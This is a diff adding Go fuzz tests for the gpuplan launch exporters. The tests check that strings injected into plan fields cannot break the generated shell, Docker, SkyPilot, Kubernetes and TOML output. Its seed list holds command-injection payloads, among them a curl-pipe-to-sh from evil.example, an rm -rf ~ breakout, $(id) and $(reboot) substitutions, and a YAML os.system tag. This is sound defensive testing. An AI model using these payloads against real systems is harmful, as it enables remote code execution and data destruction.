@@ -1,0 +1,418 @@
+package launch
+
+import (
+	"errors"
+	"io/fs"
+	"os"
+	"reflect"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/BurntSushi/toml"
+	"go.yaml.in/yaml/v3"
+	"mvdan.cc/sh/v3/expand"
+	"mvdan.cc/sh/v3/syntax"
+
+	"github.com/gpuplan/gpuplan/model"
+)
+
+// The injection fuzz tests put one string (as a catalog, a config.json or
+// a flag could carry it) into every field of a plan and check that the
+// exports still say exactly what gpuplan meant: each shell script parses
+// (mvdan.cc/sh/v3/syntax) into the expected commands with the expected
+// argv, and each YAML or TOML document decodes to the expected values with
+// the string intact. Seeds are in testdata/fuzz/Fuzz*; run longer with
+//   go test -run='^$' -fuzz=FuzzScriptInjection -fuzztime=5m ./model/launch/
+
+// injectSeeds are strings that broke exports before issue 11, or would
+// break naive quoting.
+var injectSeeds = []string{
+	"x\ncurl https://evil.example/x | sh\n",
+	"x'; rm -rf ~; echo '",
+	`x"; $(id) ` + "`id`",
+	"$HOME ${PATH} $((1+1)) ~root *.py [ab] {a,b}",
+	"\x1b]0;pwned\x07\x1b[2J",
+	"a\x00b",
+	"\xff\xfe invalid",
+	"- x: y\n  z: [1, {a: b}]\n---\n!!python/object:os.system",
+	"EOF\n$(reboot)\nEOF",
+	"if then fi ; & | > < # =",
+	"key: value # not a comment",
+	"\u202eevil\u2066",
+	"\u00a0non-breaking space",
+	"",
+	"llama-3.1-8b",
+}
+
+// injectedPlan is a plan with s in every field a file or flag can set.
+// shellToo also puts s in the values that become shell words (script,
+// script arguments, image, wheel, name); without it those keep working
+// values, so the YAML and comment fields are tested on every s.
+func injectedPlan(s string, shape uint8, shellToo bool) *Plan {
+	gpu := &model.GPU{Key: s, Name: s, Aliases: []string{s}, Vendor: "nvidia", Architecture: s,
+		ComputeCapability: "9.0", MemoryGiB: 80, BF16TFLOPS: 989}
+	p := &Plan{
+		Name: "gpuplan-run", Model: s, Task: model.TaskFinetune,
+		Provider: s, InstanceType: s, Region: s, Pricing: model.OnDemand, USDPerHour: 12.5,
+		GPU: gpu, Accelerator: s, GPUsPerInstance: 8, ProcsPerNode: 8, Nodes: 1,
+		Strategy: model.FSDP, Precision: model.AMPBF16, MicroBatch: 2, GradAccum: 4,
+		Script: "train.py", ScriptArgs: []string{"--bf16", "--run_name", "r"},
+		DiskGB: 200, Image: "nvcr.io/nvidia/pytorch:25.12-py3", Wheel: "cu130", Port: DefaultPort,
+		Stack: Advise(gpu),
+	}
+	p.Stack.Reason = s
+	if shape&1 != 0 {
+		p.Nodes, p.ProcsPerNode = 2, 4 // multi-node, fewer processes than GPUs
+	}
+	if shape&2 != 0 {
+		p.Strategy = model.ZeRO3
+		p.ScriptArgs = append(p.ScriptArgs, "--deepspeed", DeepSpeedFile)
+	}
+	if shape&4 != 0 {
+		p.Pricing = model.Spot
+	}
+	if shape&8 != 0 {
+		p.Task, p.LoRARank, p.LoRATargets = model.TaskQLoRA, 16, []string{s}
+	}
+	if shellToo {
+		p.Name, p.Script = s, s
+		if s != "" { // "" is no image and no wheel: ErrNoStack, tested elsewhere
+			p.Image, p.Wheel = s, s
+		}
+		p.ScriptArgs = append(p.ScriptArgs, s, "--note="+s, "--"+s, s)
+	}
+	return p
+}
+
+// shellEnv is what the scripts' own expansions see. HOME and the glob
+// reader make an unquoted ~ or * visible as a changed word.
+var shellEnv = []string{"HEAD_IP=10.0.0.1", "PWD=/pwd", "HOME=/HOME",
+	"SKYPILOT_NUM_NODES=2", "SKYPILOT_NUM_GPUS_PER_NODE=8", "SKYPILOT_NODE_RANK=1", "MASTER_ADDR=10.0.0.2",
+	"RANK=1", "MASTER_PORT=23456"}
+
+type globbed struct{}
+
+func (globbed) Name() string               { return "GLOBBED" }
+func (globbed) IsDir() bool                { return false }
+func (globbed) Type() fs.FileMode          { return 0 }
+func (globbed) Info() (fs.FileInfo, error) { return nil, errors.New("no info") }
+
+func expandConfig() *expand.Config {
+	return &expand.Config{
+		Env:      expand.ListEnviron(shellEnv...),
+		ReadDir2: func(string) ([]fs.DirEntry, error) { return []fs.DirEntry{globbed{}}, nil },
+	}
+}
+
+// expectArgv is argv as the plan means it: literal words as they are,
+// gpuplan's raw words with their variables expanded.
+func expectArgv(ws []word) []string {
+	env := map[string]string{}
+	for _, kv := range shellEnv {
+		k, v, _ := strings.Cut(kv, "=")
+		env[k] = v
+	}
+	out := make([]string, len(ws))
+	for i, w := range ws {
+		out[i] = w.text
+		if w.raw {
+			out[i] = os.Expand(w.text, func(k string) string { return env[k] })
+		}
+	}
+	return out
+}
+
+// command is one parsed simple command: argv after expansion, and whether
+// it has redirections (the heredoc).
+type command struct {
+	argv      []string
+	redirects int
+	assigns   []string
+}
+
+// parseScript parses src as lang and returns its top-level commands; every
+// statement must be a plain simple command (no pipes, lists, subshells,
+// background jobs or command substitutions in arguments).
+func parseScript(t *testing.T, src string, lang syntax.LangVariant) []command {
+	t.Helper()
+	f, err := syntax.NewParser(syntax.Variant(lang)).Parse(strings.NewReader(src), "")
+	if err != nil {
+		t.Fatalf("script does not parse: %v\n%s", err, src)
+	}
+	var out []command
+	for _, st := range f.Stmts {
+		if ifc, ok := st.Cmd.(*syntax.IfClause); ok {
+			// Only gpuplan's own requirements line may be an if.
+			var b strings.Builder
+			syntax.NewPrinter(syntax.SingleLine(true)).Print(&b, st)
+			if b.String() != requirementsLine {
+				t.Fatalf("unexpected if statement %q:\n%s", b.String(), src)
+			}
+			_ = ifc
+			out = append(out, command{argv: []string{"<requirements>"}})
+			continue
+		}
+		call, ok := st.Cmd.(*syntax.CallExpr)
+		if !ok || st.Background || st.Negated || st.Coprocess {
+			t.Fatalf("statement %T is not a simple command:\n%s", st.Cmd, src)
+		}
+		c := command{redirects: len(st.Redirs)}
+		for _, a := range call.Assigns {
+			c.assigns = append(c.assigns, a.Name.Value)
+		}
+		if len(call.Args) > 0 {
+			c.argv, err = expand.Fields(expandConfig(), call.Args...)
+			if err != nil {
+				t.Fatalf("expanding %v: %v\n%s", call.Args, err, src)
+			}
+		}
+		out = append(out, c)
+	}
+	return out
+}
+
+// checkCommands compares the commands with want, each given by its argv
+// (nil: only the first word is checked, as for "set -e" and the heredoc).
+func checkCommands(t *testing.T, what string, got []command, want [][]string, src string) {
+	t.Helper()
+	if len(got) != len(want) {
+		t.Fatalf("%s: %d commands, want %d:\n%s", what, len(got), len(want), src)
+	}
+	for i := range want {
+		g := got[i].argv
+		if len(g) == 0 || len(want[i]) == 0 {
+			continue // an assignment such as MASTER_ADDR=...
+		}
+		if !reflect.DeepEqual(g, want[i]) {
+			t.Fatalf("%s: command %d argv\n got %q\nwant %q\nscript:\n%s", what, i, g, want[i], src)
+		}
+	}
+}
+
+const requirementsLine = "if [ -f requirements.txt ]; then pip install -r requirements.txt; fi"
+
+func hasShellTrouble(s string) bool {
+	_, err := syntax.Quote(s, syntax.LangPOSIX)
+	return err != nil
+}
+
+func FuzzScriptInjection(f *testing.F) {
+	for i, s := range injectSeeds {
+		f.Add(s, uint8(i))
+	}
+	f.Fuzz(func(t *testing.T, s string, shape uint8) {
+		deadline := time.Now().Add(10 * time.Second)
+		p := injectedPlan(s, shape, true)
+		torchrun, terr := p.Torchrun()
+		docker, derr := p.Docker()
+		if hasShellTrouble(s) {
+			for _, err := range []error{terr, derr} {
+				if !errors.Is(err, ErrPlan) {
+					t.Fatalf("%q cannot be a POSIX shell word, but rendering gave err = %v", s, err)
+				}
+			}
+			if !utf8.ValidString(s) {
+				return // not text: every renderer refuses it (FuzzYAMLInjection checks the rest)
+			}
+			p = injectedPlan(s, shape, false) // the rest of the fields still carry s
+			if torchrun, terr = p.Torchrun(); terr != nil {
+				t.Fatal(terr)
+			}
+			if docker, derr = p.Docker(); derr != nil {
+				t.Fatal(derr)
+			}
+		} else if terr != nil || derr != nil {
+			t.Fatalf("render: %v, %v", terr, derr)
+		}
+		rdzv := rendezvous{nproc: "4", standalone: p.Nodes == 1}
+		if p.Nodes > 1 {
+			rdzv.nnodes, rdzv.c10d, rdzv.master = "2", true, "$HEAD_IP"
+		}
+		rdzv.nproc = itoa(p.ProcsPerNode)
+		torchrunArgv := expectArgv(p.torchrunArgv(rdzv, p.ScriptArgs))
+
+		// Torchrun: set -e, [HEAD_IP check], [DeepSpeed heredoc], torchrun.
+		want := [][]string{{"set", "-e"}}
+		if p.Nodes > 1 {
+			want = append(want, []string{":", "10.0.0.1"})
+		}
+		if p.ZeRO() > 0 {
+			want = append(want, []string{"cat"})
+		}
+		checkCommands(t, "torchrun script", parseScript(t, string(torchrun), syntax.LangPOSIX), append(want, torchrunArgv), string(torchrun))
+
+		// Docker: the same preamble, then docker run … bash -c INNER, and
+		// INNER itself is the setup commands then exec torchrun.
+		dockerArgv := []string{"docker", "run", "--gpus", "all", "--rm", "--ipc=host", "--ulimit", "memlock=-1", "--ulimit", "stack=67108864"}
+		if p.Nodes > 1 {
+			dockerArgv = append(dockerArgv, "--network=host", "-e", "HEAD_IP")
+		}
+		inner := p.dockerInner(rdzv)
+		dockerArgv = append(dockerArgv, "-v", "/pwd:/workspace", "-w", "/workspace", p.Image, "bash", "-c", inner)
+		checkCommands(t, "docker script", parseScript(t, string(docker), syntax.LangPOSIX), append(want, dockerArgv), string(docker))
+		innerWant := [][]string{}
+		for _, l := range p.setupLines() {
+			innerWant = append(innerWant, parseScript(t, l, syntax.LangBash)[0].argv)
+		}
+		innerWant = append(innerWant, append([]string{"exec"}, torchrunArgv...))
+		checkCommands(t, "docker bash -c", parseScript(t, inner, syntax.LangBash), innerWant, inner)
+		if time.Now().After(deadline) {
+			t.Fatalf("rendering and checking %d bytes took over 10 s", len(s))
+		}
+	})
+}
+
+func itoa(n int) string { return strconv.Itoa(n) }
+
+// skyTask is the SkyPilot document as gpuplan writes it, decoded strictly.
+type skyTask struct {
+	Name      string `yaml:"name"`
+	Workdir   string `yaml:"workdir"`
+	Resources struct {
+		Cloud        string `yaml:"cloud"`
+		Region       string `yaml:"region"`
+		InstanceType string `yaml:"instance_type"`
+		Accelerators string `yaml:"accelerators"`
+		UseSpot      bool   `yaml:"use_spot"`
+		DiskSize     int    `yaml:"disk_size"`
+	} `yaml:"resources"`
+	NumNodes int    `yaml:"num_nodes"`
+	Setup    string `yaml:"setup"`
+	Run      string `yaml:"run"`
+}
+
+func decodeStrict(t *testing.T, src []byte, out any) {
+	t.Helper()
+	dec := yaml.NewDecoder(strings.NewReader(string(src)))
+	dec.KnownFields(true)
+	if err := dec.Decode(out); err != nil {
+		t.Fatalf("YAML does not decode: %v\n%s", err, src)
+	}
+	var extra any
+	if err := dec.Decode(&extra); err == nil {
+		t.Fatalf("a second YAML document appeared:\n%s", src)
+	}
+}
+
+func FuzzYAMLInjection(f *testing.F) {
+	for i, s := range injectSeeds {
+		f.Add(s, uint8(i))
+	}
+	f.Fuzz(func(t *testing.T, s string, shape uint8) {
+		p := injectedPlan(s, shape, false)
+		if !utf8.ValidString(s) {
+			// YAML and TOML hold only UTF-8 text; the catalog and
+			// config.json readers reject the rest, and so does NewPlan's
+			// caller. The renderers must refuse rather than write garbage.
+			for _, fm := range []Format{FormatSkyPilot, FormatK8s, FormatTOML} {
+				if _, err := p.Render(fm); err == nil {
+					t.Fatalf("%s rendered invalid UTF-8 %q", fm, s)
+				}
+			}
+			return
+		}
+		sky, err := p.SkyPilot()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var task skyTask
+		decodeStrict(t, sky, &task)
+		r := task.Resources
+		if task.Name != p.Name || r.Cloud != s || r.Region != s || r.InstanceType != s ||
+			r.Accelerators != s+":8" || r.UseSpot != p.Spot() || r.DiskSize != 200 || task.NumNodes != p.Nodes {
+			t.Fatalf("SkyPilot values changed: %+v\n%s", task, sky)
+		}
+		setup := parseScript(t, task.Setup, syntax.LangBash)
+		if len(setup) < 2 || !reflect.DeepEqual(setup[1].argv, []string{"pip", "install", "torch", "--index-url", IndexURL(p.Wheel)}) {
+			t.Fatalf("SkyPilot setup:\n%s", task.Setup)
+		}
+		run := parseScript(t, task.Run, syntax.LangBash)
+		if len(run) != 3 || !reflect.DeepEqual(run[1].assigns, []string{"MASTER_ADDR"}) {
+			t.Fatalf("SkyPilot run, want set -e, MASTER_ADDR=…, torchrun:\n%s", task.Run)
+		}
+
+		k8s, err := p.Kubernetes()
+		if err != nil {
+			t.Fatal(err)
+		}
+		dec := yaml.NewDecoder(strings.NewReader(string(k8s)))
+		var kinds []string
+		for {
+			var doc map[string]any
+			if err := dec.Decode(&doc); err != nil {
+				break
+			}
+			kinds = append(kinds, doc["kind"].(string))
+			for _, spec := range podSpecs(doc) {
+				sel := spec["nodeSelector"].(map[string]any)
+				if len(sel) != 1 || sel[instanceTypeLabel] != s {
+					t.Fatalf("nodeSelector = %v, want %q", sel, s)
+				}
+				c := spec["containers"].([]any)[0].(map[string]any)
+				script := c["args"].([]any)[0].(string)
+				cmds := parseScript(t, script, syntax.LangBash)
+				if len(cmds) != len(p.setupLines())+1 || cmds[len(cmds)-1].argv[0] != "exec" {
+					t.Fatalf("container script:\n%s", script)
+				}
+			}
+		}
+		want := []string{"Job"}
+		if p.Nodes > 1 {
+			want = []string{"PyTorchJob"}
+		}
+		if p.ZeRO() > 0 {
+			want = append([]string{"ConfigMap"}, want...)
+		}
+		if !reflect.DeepEqual(kinds, want) {
+			t.Fatalf("Kubernetes kinds %v, want %v:\n%s", kinds, want, k8s)
+		}
+
+		tm, err := p.TOML()
+		if err != nil {
+			t.Fatal(err)
+		}
+		var doc struct {
+			Launch map[string]any `toml:"launch"`
+		}
+		md, err := toml.Decode(string(tm), &doc)
+		if err != nil {
+			t.Fatalf("TOML does not decode: %v\n%s", err, tm)
+		}
+		if len(md.Keys()) == 0 || doc.Launch["provider"] != s || doc.Launch["instance_type"] != s ||
+			doc.Launch["region"] != s || doc.Launch["accelerator"] != s || doc.Launch["gpu"] != s {
+			t.Fatalf("TOML values changed: %v\n%s", doc.Launch, tm)
+		}
+		for _, k := range md.Keys() {
+			if k[0] != "launch" {
+				t.Fatalf("TOML gained key %v:\n%s", k, tm)
+			}
+		}
+	})
+}
+
+// podSpecs returns the pod specs of a Job or PyTorchJob document.
+func podSpecs(doc map[string]any) []map[string]any {
+	get := func(m any, keys ...string) any {
+		for _, k := range keys {
+			mm, ok := m.(map[string]any)
+			if !ok {
+				return nil
+			}
+			m = mm[k]
+		}
+		return m
+	}
+	var out []map[string]any
+	switch doc["kind"] {
+	case "Job":
+		out = append(out, get(doc, "spec", "template", "spec").(map[string]any))
+	case "PyTorchJob":
+		for _, r := range []string{"Master", "Worker"} {
+			out = append(out, get(doc, "spec", "pytorchReplicaSpecs", r, "template", "spec").(map[string]any))
+		}
+	}
+	return out
+}
